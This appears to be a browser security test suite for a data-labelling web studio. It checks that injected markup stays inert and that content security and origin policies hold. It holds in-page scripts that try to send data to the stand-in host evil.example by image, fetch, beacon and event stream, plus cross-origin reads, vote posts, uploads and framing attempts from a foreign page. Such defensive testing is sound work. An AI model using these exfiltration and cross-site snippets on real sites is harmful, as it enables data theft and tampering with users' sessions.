"""Markup and other pages against a running studio, in a real browser, by one page load."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from lowrank_align.store import Completion, Judgement, Record, Store
from tests.browser.actions import fill, show, wait_for_pair, wait_for_text
from tests.browser.running import Running, begin_studio, chromium
from tests.torture.forms import LONG
from tests.torture.page import MARKUPS

Tally = Callable[..., None]
SHOWN = MARKUPS if LONG else MARKUPS[::4]  # typed one by one; the store's list has all
SECTION = "The page"
FAULT, PROMISE = "markup in a real browser: in {}", "nothing runs, nothing is asked of another host"
ANSWERED = """() => {
    const found = document.getElementById("chat-standing"), field = found.querySelector("textarea, input");
    const said = (field ? field.value : "") + found.innerText;
    return said.includes("a second") || document.querySelector(".toast-body") !== null;
}"""
ATTACKER = "http://127.0.0.1:9/attack"  # a page of another program of this machine; the browser is given it below
# What stands in the page as more than text: numbers of what ran, and of elements that carry it.
FOUND = """() => {
    const own = (a) => ["value", "title", "placeholder"].includes(a.name) || /^(aria|data)-/.test(a.name);
    const bad = (a) => /pwned|evil\\.example/.test(a.value) && !own(a);
    const elements = [...document.querySelectorAll("body *")].filter((e) => [...e.attributes].some(bad));
    return {ran: window.pwned || [], elements: elements.map((e) => e.outerHTML.slice(0, 200))};
}"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as started:
        yield started


@pytest.fixture(scope="module")
def studio(browser: Any, tiny_base_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """Whose store is full of markup."""
    folder = tmp_path_factory.mktemp("marked")
    with Store(folder / "studio.db") as store, store.batch():
        for text in MARKUPS:
            record = Record("pair", text, (Completion(f"{text} a", source=text), Completion(f"{text} b", source=text)))
            store.add(record)
            store.judge(record.id, text, Judgement("preferred", ranks=(1.0, 2.0), reason=text, tags=(text,)))
        store.enqueue([[{"role": "user", "content": text}] for text in MARKUPS])
    running = begin_studio(folder, "--max-new-tokens", "8")
    running.wait()
    yield running
    running.kill()


class Seen:
    """A browser window, and every request of it to another host."""

    def __init__(self, browser: Any, address: str) -> None:
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        self.context = browser.new_context(viewport={"width": 1280, "height": 800})
        own = urlsplit(address).netloc

        def route(asked: Any) -> None:
            where = urlsplit(asked.request.url)
            if asked.request.url == ATTACKER:
                asked.fulfill(body="<p>another page</p>", content_type="text/html")
            elif where.netloc == own or where.scheme in ("data", "blob"):
                asked.continue_()
            else:
                self.foreign.append(asked.request.url)
                asked.abort()

        self.context.route("**/*", route)
        self.page = self.context.new_page()
        self.page.set_default_timeout(30_000)
        self.page.on("dialog", self._dismiss)
        self.page.goto(address)
        self.page.wait_for_selector("#collect-prompt textarea")

    def _dismiss(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def harmed(self) -> dict[str, Any]:
        """What markup has done so far; empty where it was text."""
        found = {**self.page.evaluate(FOUND), "foreign": self.foreign, "dialogs": self.dialogs}
        return {name: value for name, value in found.items() if value}


def collect(page: Any) -> None:
    """Its prompt on the desk, a reason, a tag, a vote, and the last ten decisions."""
    for text in SHOWN:
        page.locator("#collect-prompt textarea").fill(text)
        page.locator("#collect-prompt textarea").press("Enter")
        wait_for_pair(page)
        fill(page, "collect-reason", text)
        page.click("#vote-tie")
        page.wait_for_timeout(100)  # for what would run: nothing tells that nothing will
    page.click("#collect-recent-panel > button, #collect-recent-panel .label-wrap")
    wait_for_text(page, "collect-recent", "tie")


def data(page: Any) -> None:
    """The list, its filters, and an entry with its history."""
    show(page, "data")
    page.wait_for_selector("#data-table", state="visible")
    wait_for_text(page, "data-where", " of ")
    page.locator("#data-table [role=gridcell]").nth(4).click()
    page.wait_for_selector("#data-prompt textarea", state="visible")
    page.click("#data-past > button, #data-past .label-wrap")
    for name in ("data-annotators", "data-tags"):
        page.locator(f"#{name} input").first.click()
        page.wait_for_selector("[role=option]")
        page.keyboard.press("Escape")
    fill(page, "data-search", MARKUPS[0])


def chat(page: Any) -> None:
    """Each as a question that is answered, some as the system prompt of another."""
    show(page, "chat")
    for text in SHOWN:
        for system, question in (("", text), (text, "How was it?"))[: 2 if text in SHOWN[:3] else 1]:
            fill(page, "chat-system", system)
            page.locator("#chat-input textarea").fill(question)
            page.keyboard.press("Enter")
            page.wait_for_function(ANSWERED)  # or refused, as too long for the model
            page.click("#chat-clear")
            page.wait_for_timeout(50)


def names(page: Any) -> None:
    """Who labels."""
    for text in SHOWN:
        fill(page, "annotator", text[:60])
        page.wait_for_timeout(50)
    fill(page, "annotator", "me")


def train_and_arena(page: Any) -> None:
    """Lists of people, tags and prompts to choose from, and messages that repeat what was typed."""
    show(page, "train")
    page.locator("#train-data input").first.click()
    page.wait_for_selector("[role=option]")
    page.keyboard.press("Escape")
    fill(page, "train-name", MARKUPS[0])
    page.click("#train-more > button, #train-more .label-wrap")
    fill(page, "train-yaml", f"'{MARKUPS[0]}': 1")
    page.click("#train-check")
    page.wait_for_function(
        "(part) => [...document.querySelectorAll('#train-plan textarea')].some((field) => field.value.includes(part))"
        " || [...document.querySelectorAll('.toast-body')].some((said) => said.innerText.includes(part))",
        arg=MARKUPS[0][:10],
    )
    show(page, "arena")


PLACES: dict[str, Callable[[Any], None]] = {
    "prompts, reasons and decisions": collect,
    "a list, an entry and its history": data,
    "questions and the system prompt": chat,
    "names": names,
    "choices and messages": train_and_arena,
}


def test_markup_is_text_in_a_browser(studio: Running, browser: Any, tally: Tally) -> None:
    seen = Seen(browser, studio.address)
    harmed: dict[str, Any] = {}
    for place, visit in PLACES.items():
        visit(seen.page)
        found = seen.harmed()
        told = json.dumps(found)
        wrong = [n for n, text in enumerate(MARKUPS) if json.dumps(text)[1:-1] in told or f"evil.example/{n}." in told]
        wrong = wrong or ([0] if found else [])
        note = told[:100] if found else ""
        held = len(SHOWN) - len(wrong)
        tally(SECTION, FAULT.format(place), PROMISE, held=held, of=len(SHOWN), note=note)
        harmed |= {place: found} if found else {}
    seen.context.close()
    assert harmed == {}


# `post(address, body)` as other pages may; `told(thing, yes, no)`: "" or what `yes` says, when one of the two comes.
HELP = """
const post = (to, body) => fetch(to, {method: "POST", mode: "no-cors", body}).then((r) => r.text()).catch(() => "");
const told = (thing, yes, no, put) => new Promise((end) => {
    thing["on" + yes] = () => end(yes);
    thing["on" + no] = () => end("");
    if (put) document.body.append(thing);
});
const FORM = new FormData();
FORM.append("files", new Blob(["{}"]), "a.jsonl");
const made = (name, fields) => Object.assign(document.createElement(name), fields);
"""
# By a script that has got into the page all the same: the policy lets nothing out.
OUT = {
    "a picture": 'told(made("img", {src: "http://evil.example/p"}), "load", "error", true)',
    "a request": 'post("http://evil.example/f", "x")',
    "a beacon": 'navigator.sendBeacon("http://evil.example/b", "x") && ""',
    "a stream": 'told(new EventSource("http://evil.example/e"), "message", "error")',
    "a picture by the studio": 'told(made("img", {src: "/gradio_api/file=http://evil.example/s"}), "load", "error")',
}
# By a page of another program of this machine, in the same browser.
IN = {
    "reading": 'fetch("STUDIOconfig").then((r) => r.text()).catch(() => "")',
    "a vote": """post("STUDIOgradio_api/run/predict", '{"data": ["x"], "fn_index": 0, "session_hash": "s"}')""",
    "an upload": 'post("STUDIOgradio_api/upload", FORM)',
    "a script": 'told(made("script", {src: "STUDIOconfig"}), "load", "error", true)',
    "a picture": 'told(made("img", {src: "STUDIOgradio_api/file=x"}), "load", "error", true)',
    "a websocket": 'told(new WebSocket("STUDIOgradio_api/queue/join".replace("http", "ws")), "open", "error")',
    "a stream": 'told(new EventSource("STUDIOgradio_api/heartbeat/s"), "message", "error")',
}
FRAME = 'told(made("iframe", {src: "STUDIO"}), "load", "error", true)'  # a frame that is refused has loaded as well


def test_nothing_goes_out_and_no_other_page_comes_in(studio: Running, browser: Any, tally: Tally) -> None:
    seen = Seen(browser, studio.address)

    def came(script: str) -> Any:
        return seen.page.evaluate(f"async () => {{ {HELP} return await {script.replace('STUDIO', studio.address)}; }}")

    out = {name: said for name, script in OUT.items() if (said := came(script))}
    wrong = [*out, *seen.foreign]
    fault, held = "a script within the page that sends something out", len(OUT) - min(len(OUT), len(wrong))
    tally(SECTION, fault, "the policy stops it", held=held, of=len(OUT), note=" ".join(wrong)[:100])
    with Store(studio.folder / "studio.db", create=False) as store:
        votes = store.pulse()
        seen.page.goto(ATTACKER)
        found = {name: said for name, script in IN.items() if (said := came(script))}
        came(FRAME)
        if any(frame.url.startswith(studio.address) and frame.query_selector("#vote-a") for frame in seen.page.frames):
            found["a frame"] = "framed"
        if store.pulse() != votes:
            found["a vote"] = "counted"
    fault, held = "another page in the same browser", len(IN) + 1 - len(found)
    promise = "it reads, posts, frames and hears nothing"
    tally(SECTION, fault, promise, held=held, of=len(IN) + 1, note=str(found)[:100] if found else "")
    seen.context.close()
    assert (wrong, found) == ([], {})
